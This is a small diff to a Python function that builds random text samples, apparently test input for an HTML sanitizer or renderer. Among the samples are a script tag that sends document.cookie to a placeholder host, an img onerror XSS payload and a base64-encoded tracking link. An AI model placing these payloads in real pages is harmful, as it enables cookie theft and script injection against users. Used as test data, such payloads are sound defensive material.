@@ -73,7 +73,7 @@ def render_text(rng: random.Random) -> str:
         elif k == 2:
             parts.append(f"[click here](https://track.example/r?q={base64.b64encode(_token(rng, 30).encode()).decode()})")
         elif k == 3:
-            parts.append(f"<script>fetch('https://x.example/?c='+document.cookie)</script>")
+            parts.append("<script>fetch('https://x.example/?c='+document.cookie)</script>")
         elif k == 4:
             parts.append(f"<img src=\"https://img{rng.randint(1, 9)}.example/a.gif\" onerror=\"alert(1)\">")
         elif k == 5:
